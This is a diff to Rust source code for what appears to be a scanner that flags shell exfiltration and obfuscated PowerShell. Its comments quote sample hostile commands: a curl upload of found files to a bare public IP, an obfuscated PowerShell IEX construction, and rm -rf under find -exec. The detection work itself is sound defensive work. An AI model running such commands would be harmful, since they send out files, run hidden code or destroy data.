@@ -2420,8 +2420,21 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
         }
         // Exfiltration: data arguments, pipelines, input redirections.
         if matches!(n.as_str(), "curl" | "wget") {
-            let mut prev = "";
+            // A bundle of short options takes its value for its last letter
+            // (`-sT FILE` is `-T FILE`).
+            let last_of = |a: &str| -> String {
+                if a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && a.bytes().skip(1).all(|b| b.is_ascii_alphabetic()) {
+                    format!("-{}", a.get(a.len() - 1..).unwrap_or(""))
+                } else {
+                    a.to_owned()
+                }
+            };
+            // Where it sends: the URL (not a file path with a dot and a slash).
+            let target = args.iter().find(|a| super::has(a, "://")).copied();
+            let mut next_prev = String::new();
             for a in &args {
+                let prev_owned = std::mem::replace(&mut next_prev, last_of(a));
+                let prev = prev_owned.as_str();
                 let data_opt = matches!(
                     prev,
                     "-d" | "--data"
@@ -2441,6 +2454,8 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                 let v = if data_opt { Some(*a) } else { inline };
                 if let Some(v) = v {
                     let file = v.rsplit('@').next().unwrap_or(v);
+                    // (`-F "f=@/tmp/b.tgz;type=application/gzip"`.)
+                    let file = file.split(';').next().unwrap_or(file);
                     if sensitive(file)
                         || (matches!(prev, "-T" | "--upload-file" | "--post-file") && sensitive(v))
                         || staged.iter().any(|s| s == file)
@@ -2449,7 +2464,7 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                     } else if (matches!(prev, "-T" | "--upload-file" | "--post-file" | "--body-file")
                         || inline.is_some()
                         || v.contains('@'))
-                        && public_address(url_of(c).as_deref())
+                        && public_address(target)
                     {
                         // A file sent to a bare public address (`curl -T {}
                         // http://45.9.148.110/up/` under `find -exec`): no
@@ -2461,7 +2476,6 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                         out.push(Confidence::High, "shell.exfiltration", at);
                     }
                 }
-                prev = a;
             }
         }
         if SENDERS.contains(&n.as_str()) || matches!(n.as_str(), "aws" | "gsutil" | "openssl" | "ssh") {
@@ -3496,7 +3510,13 @@ fn powershell_evaluated(t: &str) -> Option<String> {
             return None;
         }
         let close = t.get(i + 1..)?.find(char::from(q))? + i + 1;
-        Some((t.get(i + 1..close)?.to_owned(), close + 1))
+        let inner = t.get(i + 1..close)?;
+        // A double-quoted argument holding single-quoted literals
+        // (`powershell -c "&('{1}{0}'-f'EX','I') ..."`) is read inside.
+        if q == b'"' && inner.contains('\'') {
+            return None;
+        }
+        Some((inner.to_owned(), close + 1))
     };
     // Literals separated by commas from `i`: their texts and the index after.
     let list = |mut i: usize| -> Option<(Vec<String>, usize)> {
@@ -3522,10 +3542,19 @@ fn powershell_evaluated(t: &str) -> Option<String> {
         if casts && lower.get(i..i + 6) == Some("[char]") {
             let (mut j, mut text) = (i, String::new());
             while lower.get(j..j + 6) == Some("[char]") {
-                let digits = b.get(j + 6..).unwrap_or(&[]).iter().take_while(|c| c.is_ascii_digit()).count();
-                let Some(c) = t.get(j + 6..j + 6 + digits).and_then(|d| d.parse::<u32>().ok()).and_then(char::from_u32) else { break };
+                // Decimal or hex (`[char]0x49`).
+                let hex = lower.get(j + 6..j + 8) == Some("0x");
+                let from = if hex { j + 8 } else { j + 6 };
+                let digits = b
+                    .get(from..)
+                    .unwrap_or(&[])
+                    .iter()
+                    .take_while(|c| if hex { c.is_ascii_hexdigit() } else { c.is_ascii_digit() })
+                    .count();
+                let code = t.get(from..from + digits).and_then(|d| u32::from_str_radix(d, if hex { 16 } else { 10 }).ok());
+                let Some(c) = code.filter(|_| digits > 0).and_then(char::from_u32) else { break };
                 text.push(c);
-                j = skip_ws(j + 6 + digits);
+                j = skip_ws(from + digits);
                 if b.get(j) == Some(&b'+') && lower.get(skip_ws(j + 1)..skip_ws(j + 1) + 6) == Some("[char]") {
                     j = skip_ws(j + 1);
                 } else {
@@ -3645,8 +3674,18 @@ pub(crate) fn search_patterns(text: &str) -> Vec<Range<usize>> {
     ];
     for c in p.cmds.iter().filter(|c| c.parent.is_none() && SEARCHERS.contains(&base(c.name()))).take(64) {
         let args = c.args();
-        // (`-f FILE` reads the patterns from FILE: a file it opens.)
-        if args.iter().any(|w| matches!(w.text.as_str(), "-f" | "--file") || w.text.starts_with("--file=")) {
+        // (`-f FILE` reads the patterns from FILE: a file it opens. A
+        // pattern glued to its option, `-e.`, `--regexp=.`, `-ie.`, leaves
+        // every other word a file: nothing is lowered.)
+        let short_bundle = |w: &str, ch: char| w.starts_with('-') && !w.starts_with("--") && w.len() > 2 && w.contains(ch);
+        if args.iter().any(|w| {
+            let w = w.text.as_str();
+            matches!(w, "-f" | "--file")
+                || w.starts_with("--file=")
+                || w.starts_with("--regexp=")
+                || short_bundle(w, 'e')
+                || short_bundle(w, 'f')
+        }) {
             continue;
         }
         let explicit = args.iter().position(|w| matches!(w.text.as_str(), "-e" | "--regexp")).and_then(|i| args.get(i + 1));
@@ -4342,12 +4381,18 @@ fn execution_option(t: &str) -> Option<Range<usize>> {
             let head = head.strip_prefix("run ").unwrap_or(head);
             let first = head.split_whitespace().next().unwrap_or("");
             if l.contains('\n') && (first == "find" || first.ends_with("/find")) {
-                // Judged as the command it is: what `-exec` runs decides.
+                // Judged as the command it is: what `-exec` runs decides. A
+                // shell, an interpreter or a program that sends or fetches
+                // (`-exec curl -T {} ...`, `-exec sh -c ...`) stays flagged;
+                // any other (`rm -rf {} +`, `shellcheck -x {} +`) passes
+                // unless the shell rules find the line harmful.
                 let start = p - head.len();
                 let end = l.get(p..).and_then(|r| r.find('\n')).map_or(t.len(), |e| p + e);
+                let runs = rest_first_word(l.get(p + marker.len()..end).unwrap_or(""));
                 let mut hits = Vec::new();
                 run_program(t.get(start..end).unwrap_or(""), &mut hits);
-                if hits.iter().any(|h| h.confidence >= Confidence::Medium) {
+                let reaches = is_interp(runs) || DOWNLOADERS.contains(&runs) || SENDERS.contains(&runs) || NET_CLIENTS.contains(&runs);
+                if reaches || hits.iter().any(|h| h.confidence >= Confidence::Medium) {
                     return Some(start..end);
                 }
                 continue;
@@ -4359,6 +4404,12 @@ fn execution_option(t: &str) -> Option<Range<usize>> {
         }
     }
     None
+}
+
+/// The first word of `rest`, its directory dropped (`/bin/rm` is `rm`).
+fn rest_first_word(rest: &str) -> &str {
+    let w = rest.split_whitespace().next().unwrap_or("");
+    w.rsplit('/').next().unwrap_or(w)
 }
 
 /// Whether a field holds a build file named for its content
